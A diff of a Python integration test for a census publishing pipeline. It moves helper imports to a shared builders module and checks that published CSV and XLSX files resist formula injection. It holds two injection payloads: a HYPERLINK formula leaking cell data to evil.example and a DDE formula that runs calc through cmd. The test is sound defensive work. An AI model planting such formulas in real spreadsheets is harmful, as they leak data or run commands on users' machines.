@@ -1,6 +1,6 @@
 """Published files are safe to open and never half-written or built on a broken census.
 
-A hand-written landing zone (the rules zone of test_rules.py, plus households and enumerators
+A hand-written landing zone (the rules zone of test_rules.py, tests/builders.py, plus households and enumerators
 whose ids are formula-injection payloads) runs through the real pipeline; every CSV and the XLSX
 are read back as a spreadsheet would read them. A second zone, mostly malformed lines, must be
 stopped by the blocking plausibility check and publish nothing.
@@ -14,8 +14,8 @@ from openpyxl import load_workbook
 
 from census_pipeline.lib.safe_cells import starts_like_a_formula
 from census_pipeline.runner import summarise
+from tests.builders import EA, person, rules_landing_zone, submission
 from tests.conftest import materialize_into
-from tests.integration.test_rules import EA, landing_zone, person, submission
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 CALC = "=cmd|' /C calc'!A0"
@@ -34,7 +34,7 @@ PAYLOAD_SUBMISSIONS = [
 def published(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("payloads")
     root = tmp / "landing"
-    landing_zone(root)
+    rules_landing_zone(root)
     with open(root / "uploads/pad/2020-11-20/batch.jsonl", "a", encoding="utf-8") as f:
         f.writelines(json.dumps(s, ensure_ascii=False) + "\n" for s in PAYLOAD_SUBMISSIONS)
     with open(root / "frame/listing.csv", "a", encoding="utf-8") as f:
